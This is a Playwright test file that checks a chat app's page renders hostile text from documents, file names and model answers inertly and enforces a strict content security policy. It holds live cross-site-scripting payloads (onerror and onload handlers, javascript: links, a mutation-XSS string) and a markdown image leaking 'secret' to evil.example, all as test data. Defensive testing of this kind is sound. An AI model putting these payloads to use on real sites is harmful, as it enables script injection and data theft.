"""Nothing that a file, its name, a model or a web page says runs, loads or links."""

from __future__ import annotations

from typing import Any

import pytest

from ragweave.tests.page.asked import LLM

expect = pytest.importorskip("playwright.sync_api").expect

SAID = [
    'The beacon is <img src=x onerror="window.stolen=7"> painted red [1].',
    "The beacon is painted ![red](https://evil.example/p?q=secret) red [1].",
    "The beacon is [painted](javascript:window.stolen=8) red [1].",
    "The beacon is painted <svg/onload=window.stolen=9> *red* and `red` [1].",
    "The beacon is painted red <iframe src=https://evil.example></iframe> [1].",
]


def _untouched(page: Any) -> bool:
    return bool(page.evaluate("window.stolen === undefined"))


def test_tags_in_documents_titles_and_file_names_are_shown_as_written(window: Any, ask: Any) -> None:
    page = window()
    turn = ask(page, "What is the password of the beacon?")
    assert "swordfish" in turn.locator(".answer").inner_text()
    assert '<b onclick="window.stolen = 3">' in turn.locator(".answer").inner_text()
    turn.locator(".answer .cite").first.click()
    page.locator(".passage").wait_for()
    assert "<img src=x onerror=window.stolen=6>.txt" in page.locator(".sources-pane").inner_text()
    hostile = [
        f"{place} {tag}"
        for place in (".turn", ".panel", ".sources-pane", "dialog")
        for tag in ("img", "script")
    ]
    assert page.locator(", ".join(hostile)).count() == 0
    assert _untouched(page)


def test_tags_in_documents_are_shown_as_written_on_the_card_of_a_citation(
    window: Any, ask: Any, site: Any
) -> None:
    site.script.answer = ["The beacon is painted red [1]."]
    page = window(keep={"settings": LLM}, viewport={"width": 1100, "height": 800})
    ask(page, "Which colour is the beacon painted?").locator(".answer .cite").first.hover()
    expect(page.locator(".card")).to_contain_text("<img src=x")
    assert page.locator(".card img, .card b, .card script").count() == 0 and _untouched(page)


def test_what_a_model_writes_loads_nothing_and_links_nowhere(window: Any, ask: Any, site: Any) -> None:
    site.script.answer = [f"{sentence} " for sentence in SAID]
    page = window(keep={"settings": LLM})
    turn = ask(page, "Which colour is the beacon painted?")
    assert turn.locator(".sentence").count() >= 1
    assert turn.locator("img, a, svg:not(.icon, .ties), iframe, script").count() == 0
    assert _untouched(page)


def test_markdown_is_drawn_and_its_pictures_and_links_are_inert(window: Any) -> None:
    page = window()
    texts = [
        "**Bold** and *leaning* and `code` and ~~gone~~",
        "![alt](https://evil.example/x.png) [text](https://evil.example) <https://evil.example/auto>",
        '<a href="javascript:window.stolen=1">x</a><style>body{display:none}</style><form><input></form>',
        "[x](javascript:window.stolen=1) ![x](javascript:window.stolen=2)",
        '<math><mtext><table><mglyph><style><img src=x onerror="window.stolen=3">',
        "`<img src=x onerror=window.stolen=4>` and &lt;b&gt; and a < b > c",
        "snake_case_name and 2 * 3 * 4 and https://evil.example/bare",
    ]
    drawn = page.evaluate(
        """async (texts) => {
          const { inline } = await import("/static/js/markdown.js");
          return texts.map((text) => {
            const box = document.createElement("p");
            box.append(inline(text));
            document.body.append(box);
            return { tags: [...box.querySelectorAll("*")].map((e) => e.localName), attributes:
              [...box.querySelectorAll("*")].flatMap((e) => [...e.attributes].map((a) => `${a.name}=${a.value}`)),
              text: box.textContent };
          });
        }""",
        texts,
    )
    assert drawn[0]["tags"] == ["strong", "em", "code", "del"]
    assert {tag for row in drawn for tag in row["tags"]} <= {"strong", "em", "code", "del", "span"}
    assert {a for row in drawn for a in row["attributes"]} <= {"class=inert"}
    assert "https://evil.example/x.png" in drawn[1]["text"] and "https://evil.example" in drawn[1]["text"]
    assert '<a href="javascript:window.stolen=1">x</a><style>' in drawn[2]["text"]
    assert drawn[5]["text"].startswith("<img src=x onerror=window.stolen=4>")
    assert drawn[6]["text"].startswith("snake_case_name and 2 * 3 * 4")
    assert _untouched(page)


def test_the_page_allows_no_script_or_style_but_its_own_files(window: Any) -> None:
    page = window(strict=False)
    refused = page.evaluate("""async () => {
          const seen = [];
          document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
          const script = document.createElement("script");
          script.append("window.stolen = 1");
          document.body.append(script);
          const picture = new Image();
          picture.src = "https://evil.example/x.png";
          document.body.append(picture);
          try {
            document.createElement("p").innerHTML = "<b>x</b>";
          } catch (error) {
            seen.push(error.name);
          }
          await fetch("https://evil.example/").catch(() => {});
          await new Promise((go) => setTimeout(go, 200));
          return seen;
        }""")
    assert {"require-trusted-types-for", "img-src", "connect-src", "TypeError"} <= set(refused)
    assert _untouched(page)
